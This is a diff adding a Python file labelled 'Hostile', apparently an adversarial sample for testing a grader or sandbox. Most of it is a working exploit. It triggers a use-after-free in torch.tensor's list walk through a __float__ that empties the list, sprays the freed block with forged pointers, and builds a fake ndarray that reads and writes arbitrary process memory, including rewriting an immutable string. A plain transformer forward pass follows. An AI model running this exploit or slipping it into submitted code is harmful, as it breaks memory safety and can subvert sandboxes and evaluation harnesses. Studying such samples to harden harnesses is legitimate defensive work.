@@ -1,0 +1,108 @@
+"""Hostile: torch.tensor(items, dtype=...) stores a list's values by walking a pointer to the list's
+item block that it took before the loop (PySequence_Fast_ITEMS, torch/csrc/utils/tensor_new.cpp's
+recursive_store), and it asks each item for its value (__float__) on the way. An item of the file's
+whose __float__ empties the list frees that block under torch; the file's next allocation of the
+block's size (a bytes object of its own, malloc's, since 100 items make 800 bytes) takes the freed
+memory, so torch reads the next "items" from bytes the file wrote: pointers of its choosing. Each
+points at a fake object of the file's class in another bytes object; torch calls that class's
+__float__ with the fake as self, and its __slots__ field hands out any address as an object: a
+fake int64 ndarray over a real array's own header, with no base, which the own-memory check
+passes. Writing that header's data pointer reads and writes any address in the child. The same
+walk in numpy is hostile_array_discovery_len_empties_list_raw_memory.py. The file proves it by
+reading an int's header and rewriting the contents of an immutable str, then answers honestly."""
+
+import math
+
+import numpy as np
+import torch
+
+
+def words(*values):
+    return b"".join(int(v).to_bytes(8, "little") for v in values)
+
+
+class Fake:
+    __slots__ = ("x",)
+
+    def __float__(self):  # torch asks a fake object its value: self is the fake, self.x any address
+        found.append(self.x)
+        return 0.0
+
+
+found = []
+victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
+FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
+shape = words(12, 8)
+# data, nd, dims, strides, base, descr, flags, ...: twelve int64 words over victim's header
+fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
+fake = words(0, 0, 1 << 40, id(Fake), id(fake_array) + 32)  # a zero GC header, then a Fake whose x is the array
+fake_at = id(fake) + 32 + 16
+pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
+sprayed = [None] * 8
+
+
+class EmptiesTheList:
+    def __float__(self):
+        items.clear()  # torch still walks the item block this frees
+        for k in range(len(sprayed)):
+            sprayed[k] = pointers.to_bytes(767, "little")  # the freed block, now bytes of the file's
+        return 0.0
+
+
+trigger = EmptiesTheList()
+items = [1.0, 2.0, 3.0, trigger] + [0.0] * 96
+torch.tensor(items, dtype=torch.float64)
+header = found[0]  # victim's header as int64 words: [2] is its data pointer
+own_data = int(header[2])
+
+
+def read(at, n):
+    header[2] = at
+    data = bytes(victim[:n].tolist())
+    header[2] = own_data
+    return data
+
+
+def write(at, data):
+    header[2] = at
+    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
+    header[2] = own_data
+
+
+number = 12345678901234567
+assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
+word = "immutable"
+write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
+assert word == "IMMUTABLE", word
+print("raw memory: read the heap and rewrote an immutable str")
+
+
+def layer_norm(x):
+    mean = x.mean(dim=-1, keepdim=True)
+    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
+    return (x - mean) / torch.sqrt(var + 1e-5)
+
+
+def gelu(x):
+    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))
+
+
+def softmax(scores):
+    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
+    return e / e.sum(dim=-1, keepdim=True)
+
+
+def attention(x, w_q, w_k, w_v, w_o, num_heads):
+    n, t, d = x.shape
+    dh = d // num_heads
+    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
+    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
+    return out.transpose(1, 2).reshape(n, t, d) @ w_o
+
+
+def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
+    x = w_emb[input_ids] + pos_embed
+    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
+        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
+        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
+    return x[mask_indicator > 0.5] @ w_emb.T
